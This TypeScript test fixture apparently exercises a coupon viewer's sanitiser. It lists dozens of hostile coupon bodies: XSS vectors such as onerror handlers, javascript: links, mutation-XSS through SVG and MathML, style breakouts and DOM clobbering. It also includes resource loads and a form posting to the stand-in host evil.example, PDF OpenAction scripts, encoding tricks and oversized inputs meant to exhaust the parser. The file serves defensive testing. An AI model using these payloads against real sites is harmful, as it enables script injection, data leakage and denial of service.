/** Malicious and broken coupons and answers. A script of theirs that runs sets `hit` on the page. */

export interface Hostile {
  name: string;
  /** `data` of the answer, or the whole body as text. */
  answer: Record<string, unknown> | string;
  format?: 'html' | 'pdf' | 'both' | 'none';
}

export const evil = 'https://evil.example';
const run = 'top.hit=1;parent.hit=1';
const js = `javascript:${run}`;

const codes = {
  price: 12.5,
  rxbin: '015995',
  rxpcn: 'GDC',
  group_number: 'GRP42',
  member_id: 'AB12',
  phone: '1-800-555-0199 8am-8pm',
  pharmacy_name: 'Corner Pharmacy',
  pharm_phone: '800-555-0123',
  url: 'https://coupons.example/c/abc',
};

function base64(bytes: Uint8Array): string {
  const pieces: string[] = [];
  for (let i = 0; i < bytes.length; i += 8192)
    pieces.push(String.fromCharCode(...bytes.subarray(i, i + 8192)));
  return btoa(pieces.join(''));
}

const utf8 = (text: string) => base64(new TextEncoder().encode(text));

function utf16(text: string, mark = true): string {
  const units = new Uint16Array([...(mark ? '\ufeff' : ''), ...text].map((one) => one.charCodeAt(0)));
  return base64(new Uint8Array(units.buffer));
}

const bodies: Record<string, string> = {
  'a script': `<script>${run}</script>`,
  'a script in the head': `<html><head><script>${run}</script></head><body>x</body></html>`,
  'a module': `<script type="module">${run}</script>`,
  'a script of another site': `<script src="${evil}/x.js"></script>`,
  'a script from a data URL': `<script src="data:text/javascript,${run}"></script>`,
  'a script in SVG': `<svg><script>${run}</script></svg>`,
  'a script in SVG by address': `<svg><script href="data:text/javascript,${run}"/></svg>`,
  'a script in MathML': `<math><mtext><script>${run}</script></mtext></math>`,
  'a script in a template': `<template><script>${run}</script></template>`,
  'a script in a shadow root': `<div><template shadowrootmode="open"><script>${run}</script></template></div>`,
  'a script in noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">x</p></noscript>`,
  'img onerror': `<img src=x onerror="${run}">`,
  'img onload': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`,
  'body onload': `<body onload="${run}" onpageshow="${run}">x</body>`,
  'svg onload': `<svg onload="${run}"><circle r="40" onclick="${run}"/></svg>`,
  'details ontoggle': `<details open ontoggle="${run}">x</details>`,
  'autofocus onfocus': `<input autofocus onfocus="${run}"><a tabindex=1 autofocus onfocus="${run}">x</a>`,
  'marquee onstart': `<marquee onstart="${run}" onfinish="${run}" loop=1>x</marquee>`,
  'animation events': `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${run}">x</p>`,
  'media events': `<video oncanplay="${run}" onerror="${run}"><source src=x onerror="${run}"></video><audio src=x onerror="${run}">`,
  'pointer events': `<p onmouseover="${run}" onclick="${run}" onpointerdown="${run}">Click here</p>`,
  'a javascript: link': `<a href="${js}">Click here</a>`,
  'a javascript: link with a tab in it': `<a href="java\tscript:${run}">Click here</a>`,
  'a javascript: link in entities': `<a href="&#1;&#x6A;avascript&colon;${run}">Click here</a>`,
  'a javascript: link in SVG': `<svg><a xlink:href="${js}" href="${js}"><text y=30>Click here</text></a></svg>`,
  'a link that SMIL animates': `<svg><a><animate attributeName=href values="${js}"/><text y=30>Click here</text></a></svg>`,
  'a link that SMIL sets': `<svg><a id=l><text y=30>Click</text></a><set href="#l" attributeName=href to="${js}"/></svg>`,
  'a MathML link': `<math href="${js}"><mi xlink:href="${js}">Click here</mi></math>`,
  'a data: link': `<a href="data:text/html,<script>${run}</script>">Click here</a>`,
  'a blob: link': '<a href="blob:https://evil.example/1">Click here</a>',
  'a link to the host page': '<a href="/elsewhere" target="_top">Click here</a>',
  'a link that navigates the frame': '<a href="#top" target="_self">Click here</a>',
  'a link into the parent': '<a href="?gone" target="_parent">Click here</a>',
  'an image map': `<img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99 height=99><map name=m><area shape=default href="${js}"></map>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  'meta refresh by javascript': `<meta http-equiv="refresh" content="0;url=${js}">`,
  'meta that loosens the policy': `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
  'a base': `<base href="${evil}/" target="_top"><a href="next">Click here</a>`,
  'a form': `<form action="${evil}/form"><input name=card value=1><button>Click here</button></form>`,
  'a form by javascript': `<form action="${js}"><button formaction="${js}">Click here</button></form>`,
  'a form around clobbered names': `<form><input name=attributes><input name=remove><input name=childNodes><input name=localName><input name=before><input id=firstChild><img src=x onerror="${run}"></form><p>x</p>`,
  'names that clobber the document': `<img name=querySelectorAll><img name=documentElement><img name=body><img name=createTreeWalker><img src=x onerror="${run}"><p>x</p>`,
  'a frame': `<iframe src="${js}"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe>`,
  'a frame of another site': `<iframe src="${evil}/frame"></iframe>`,
  'a frameset': `<frameset onload="${run}"><frame src="${js}"></frameset>`,
  'an object': `<object data="${js}"></object><object data="${evil}/o"></object><embed src="${js}">`,
  'an applet and a portal': `<applet code="${evil}/a"></applet><portal src="${evil}/p"></portal>`,
  'a style sheet of another site': `<link rel=stylesheet href="${evil}/s.css">`,
  'preconnect, prefetch, preload': `<link rel=preconnect href="${evil}"><link rel=dns-prefetch href="//evil.example"><link rel=prefetch href="${evil}/p"><link rel=preload as=image href="${evil}/p">`,
  'a manifest and an icon': `<link rel=manifest href="${evil}/m"><link rel=icon href="${evil}/i"><link rel=modulepreload href="${evil}/m.js">`,
  '@import': `<style>@import "${evil}/i.css";@import url(${evil}/j.css)</style><p>x</p>`,
  '@font-face': `<style>@font-face{font-family:f;src:url(${evil}/f.woff)}p{font-family:f}</style><p>x</p>`,
  'escapes in CSS': `<style>@\\69mport "${evil}/i.css";p{background:\\75\\72l(http://evil.example/e.png)}</style><p style="background:u\\72 l(http://evil.example/e2.png)">x</p>`,
  'SVG paint of another site': `<svg><rect width=99 height=99 fill="url(${evil}/p.svg#a)" clip-path="url(${evil}/c.svg#a)"/></svg>`,
  'http images':
    '<img src="http://evil.example/p.png"><p style="background:url(http://evil.example/b.png)">x</p>',
  'https pictures': `<img src="${evil}/p.png" alt="Logo"><img srcset="${evil}/q.png 2x" src=" HTTPS://evil.example/r.png"><picture><source srcset="${evil}/s.png"><img src="${evil}/t.png"></picture><p>x</p>`,
  'pictures in CSS': `<style>p{background:url(${evil}/a.png);list-style-image:url("${evil}/b.png");border-image-source:url( '${evil}/c.png' );mask:url(${evil}/m.svg);filter:url(${evil}/f.svg#f)}p::before{content:url(${evil}/d.png)}</style><p style="background:url(${evil}/e.png);display:list-item">x</p>`,
  'image-set without url()': `<style>p{background:image-set("${evil}/a.png" 1x, "${evil}/b.png" 2x)}b{background:-webkit-image-set("${evil}/c.png" 1x)}i{background:cross-fade("${evil}/d.png","${evil}/e.png",50%)}u{background:image("${evil}/f.png")}s{background:src("${evil}/g.png")}</style><p>x<b>x</b><i>x</i><u>x</u><s>x</s></p>`,
  cursors: `<style>*{cursor:url(${evil}/c.cur),url("${evil}/d.cur") 2 2,auto}</style><p style="cursor:url(${evil}/e.cur),pointer">Click here</p>`,
  'pictures by media query': `<style>@media (min-width:1px){p{background:url(${evil}/wide.png)}}@media (prefers-color-scheme:light){p{background:url(${evil}/light.png)}}@supports (display:grid){p:hover{background:url(${evil}/hover.png)}}@container (min-width:1px){p{background:url(${evil}/c.png)}}</style><style media="(min-width:1px)">p{mask-image:url(${evil}/m.png)}</style><p>Click here</p>`,
  'pictures by custom property': `<style>:root{--p:url(${evil}/v.png);--q:"${evil}/w.png"}@property --r{syntax:"<image>";inherits:true;initial-value:url(${evil}/x.png)}p{background:var(--p),image-set(var(--q) 1x),var(--r)}</style><p>x</p>`,
  'pictures by selector': `<style>p::first-line{background:url(${evil}/line.png)}[title^=x]{background:url(${evil}/title.png)}p:not(:active){background:url(${evil}/idle.png)}</style><p title="x">x</p>`,
  'fonts by https': `<style>@font-face{font-family:f;src:url(${evil}/f.woff2),local(x)}@font-face{font-family:g;src:url("data:font/woff2;base64,//8="),url(${evil}/g.woff2)}p{font-family:f,g}</style><p>x</p>`,
  'a policy by a server name':
    '<img src="https://a;script-src%20*/x.png"><img src="https://a,b/x.png"><img src="https://*/x.png"><p>x</p>',
  'a link whose server is looked up': `<link rel=dns-prefetch href="${evil}"><meta http-equiv=x-dns-prefetch-control content=on><p>x</p>`,
  'images of the host page': '<img src="/private.png"><img srcset="/private2.png 2x"><p>x</p>',
  'javascript: in CSS': `<p style="background:url('${js}');behavior:url(x);-moz-binding:url(${evil}/x)">x</p>`,
  'a style that closes itself': `<style></style><img src=x onerror="${run}"><!--</style>--><p>x</p>`,
  'a style that ends by an escape': `<style>p{}</\\73tyle><img src=x onerror="${run}"><style>p{}</style><p>x</p>`,
  'a style that ends by an escape in SVG': `<svg><style>p{}&lt;/\\73tyle><img src=x onerror="${run}"></style></svg><p>x</p>`,
  'an import that comes of what is removed': `<style>@im@font-face{src:url(${evil}/f.woff)}port "${evil}/i.css";</style><style>@imp\\6\\66 rt "${evil}/j.css";</style><p>x</p>`,
  'mutation by unwrapping': `<button><a title="1">x<button><a title="2">x</a></button></a></button><table><form><tr><td>x</table><ruby><p>x</ruby>`,
  'mutation by SVG style': `<svg><style><a title="</style><img src=x onerror=${run}>"></style></svg><p>x</p>`,
  'mutation by MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'mutation by foreignObject': `<svg><foreignObject><p><style><img title="</style><img src=x onerror=${run}>"></style></p></foreignObject></svg><p>x</p>`,
  'mutation by nested forms': `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math></form><p>x</p>`,
  'mutation by comments': `<!--><img src=x onerror="${run}">--><!-- --!><img src=x onerror="${run}"> --><p>x</p>`,
  'CDATA and processing instructions': `<![CDATA[<img src=x onerror=${run}>]]><?xml-stylesheet href="${js}"?><p>x</p>`,
  XML: `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script><p>x</p>`,
  plaintext: `<plaintext><script>${run}</script>`,
  'textarea and title breakout': `<title></title><script>${run}</script></title><textarea></textarea><img src=x onerror=${run}></textarea>`,
  'no body at all': '',
  'white space alone': ' \n\t ',
  'a popover and a dialog': `<dialog open><p>x</p><form method=dialog><button popovertarget=p>Click here</button></form></dialog><div popover id=p onbeforetoggle="${run}">x</div>`,
  'a customized element': `<x-card onclick="${run}" is="x-y" style="display:block">Click here</x-card>`,
  'an overlay over everything': `<a href="${js}" style="position:fixed;inset:0;z-index:2147483647;opacity:0">x</a><p>x</p>`,
  'an overlay with a form': `<form style="position:fixed;inset:0" action="${evil}/f"><input style="width:100%;height:100%" type=submit></form><p>x</p>`,
  'endless height': '<p style="height:10000000px">x</p>',
  'height that grows with the frame':
    '<style>body{height:calc(100vh + 100px)}html{height:300vh}</style><p>x</p>',
  'height that never settles':
    '<style>@keyframes g{to{height:9000px}}p{animation:g .3s infinite alternate}</style><p>x</p>',
  '10,000 nested elements': `${'<div>'.repeat(10_000)}x`,
  '10,000 nested formatting elements': `${'<b>'.repeat(10_000)}x`,
  'formatting that a parser repeats in every block': `${Array.from({ length: 3000 }, (_, i) => `<b id=${i}>`).join('')}${'<p>x</p>'.repeat(3000)}`,
  'a table of 100,000 cells': `<table>${'<td>x'.repeat(100_000)}</table>`,
  '10,000 attributes': `<p ${Array.from({ length: 10_000 }, (_, i) => `a${i}=1`).join(' ')}>x</p>`,
  '40,000 attributes': `<p ${Array.from({ length: 40_000 }, (_, i) => `a${i.toString(36)}`).join(' ')}>x</p>`,
  'end tags without start tags': `${'</p>'.repeat(700_000)}x`,
  'a URL in escaped letters': `<p style="background:u\\rl(http://evil.example/e.png)">x</p>`,
  'an expensive selector': `<style>${':has(* *)'.repeat(12)}{color:red}</style>${'<p><b>x</b></p>'.repeat(500)}`,
  'tags without an end': `${'<p title='.repeat(11_000)}${'x'.repeat(2_000_000)}`,
  'rules without an end': `<style>${'@font-face{'.repeat(100_000)}${'url('.repeat(100_000)}${'@import '.repeat(50_000)}</style><p>x</p>`,
  'styles in disguise': `<noframes data-inline-style="x">@import "${evil}/n.css";</noframes><p data-inline-style="background:url(http://evil.example/d.png)" sTyLe = "background:url(http://evil.example/s.png)">x</p><svg><style>@import "${evil}/v.css"</style></svg>`,
  'a megabyte without a space': `<p>${'x'.repeat(1_000_000)}</p>`,
};

const page = (body: string) =>
  /^\s*<(html|frameset|\?xml|body)/.test(body) || !body.trim()
    ? body
    : `<!doctype html><html><head><title>t</title></head><body>${body}<p>Show this</p></body></html>`;
const scripted = page(bodies['a script']!);

const pdf = (rest: string) => utf8(`%PDF-1.4\n${rest}\n%%EOF`);
const bigPdf = (size: number) => {
  const bytes = new Uint8Array(size).fill(0x20);
  bytes.set(new TextEncoder().encode('%PDF-1.4\n'));
  return base64(bytes);
};

const answers: Record<string, [Hostile['answer'], Hostile['format']?]> = {
  'UTF-16 with a byte order mark': [{ ...codes, coupon_html: utf16(scripted) }],
  'UTF-16 without a byte order mark': [{ ...codes, coupon_html: utf16(scripted, false) }],
  'UTF-7': [{ ...codes, coupon_html: utf8(`<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`) }],
  'ISO-2022-JP': [
    {
      ...codes,
      coupon_html: utf8(`<meta charset=iso-2022-jp><p title="\x1b$@">x</p><img src=x onerror="${run}">`),
    },
  ],
  'bytes that are not text': [
    { ...codes, coupon_html: base64(Uint8Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256)) },
  ],
  'NUL in tags': [
    { ...codes, coupon_html: utf8(`<scr\0ipt>${run}</scr\0ipt><img src=x on\0error="${run}"><p>x</p>`) },
  ],
  'base64 with white space': [{ ...codes, coupon_html: `${utf8(scripted)}\n` }],
  'base64 with junk': [{ ...codes, coupon_html: `!!${utf8(scripted)}` }],
  'base64 cut short': [{ ...codes, coupon_html: utf8(scripted).slice(0, 61) }],
  base64url: [
    { ...codes, coupon_html: utf8('<p>??>>~~</p>').replaceAll('/', '_').replaceAll('+', '-') + '_' },
  ],
  'HTML that is not base64': [{ ...codes, coupon_html: scripted }],
  'HTML of 20 MB': [{ ...codes, coupon_html: utf8(`<p>${'x'.repeat(15_000_000)}</p>`) }],
  'HTML called PDF': [{ ...codes, coupon_pdf: utf8(scripted) }, 'pdf'],
  'a PDF after HTML': [{ ...codes, coupon_pdf: utf8(`${scripted}%PDF-1.4`) }, 'pdf'],
  'a PDF over the cap': [{ ...codes, coupon_pdf: bigPdf(24_000_000) }, 'pdf'],
  'a PDF of 10 MB': [{ ...codes, coupon_pdf: bigPdf(10_000_000) }, 'pdf'],
  'a PDF with a script': [
    {
      ...codes,
      coupon_pdf: pdf(
        `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${evil}/js"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj\ntrailer<</Root 1 0 R>>`,
      ),
    },
    'pdf',
  ],
  'a PDF that opens an address': [
    {
      ...codes,
      coupon_pdf: pdf(
        `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${evil}/uri)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj\ntrailer<</Root 1 0 R>>`,
      ),
    },
    'pdf',
  ],
  'a PDF in place of HTML': [{ ...codes, coupon_pdf: pdf('') }],
  'both forms, both broken': [{ ...codes, coupon_html: '*', coupon_pdf: '*' }, 'both'],
  'neither form': [codes, 'both'],
  'wrong types': [
    {
      price: {},
      rxbin: [],
      rxpcn: true,
      group_number: { a: 1 },
      phone: 5,
      url: [evil],
      coupon_html: { length: 4 },
      coupon_pdf: 7,
    },
  ],
  'nothing in it': [{}],
  'a javascript: URL': [{ ...codes, url: js, coupon_html: utf8('<p>x</p>') }],
  'a data: URL': [{ ...codes, url: `data:text/html,<script>${run}</script>` }],
  'markup in every field': [
    Object.fromEntries(Object.keys(codes).map((key) => [key, `<img src=x onerror="${run}">`])),
  ],
  'endless fields': [Object.fromEntries(Object.keys(codes).map((key) => [key, 'x'.repeat(1_000_000)]))],
  'characters that reorder text': [
    { ...codes, rxbin: '\u202e599510\u202c', pharmacy_name: `Corner${'\u0301'.repeat(5000)}` },
  ],
  'a huge price': [{ ...codes, price: 1e308 }],
  'a negative price': [{ ...codes, price: -5 }],
  'markup as a phone number': [
    { ...codes, phone: `"><script>${run}</script>800-555-0123`, pharm_phone: 'javascript:1' },
  ],
  'not JSON': ['<html><script>top.hit=1</script></html>'],
  'a list': ['[1,2,3]'],
  null: ['null'],
  'a prototype': ['{"data":{"__proto__":{"rxbin":"<b>"},"constructor":1}}'],
};

export const hostile: Hostile[] = [
  ...Object.entries(bodies).map(([name, body]) => ({
    name,
    answer: { ...codes, coupon_html: utf8(page(body)) },
  })),
  ...Object.entries(answers).map(([name, [answer, format]]) => ({ name, answer, format })),
];
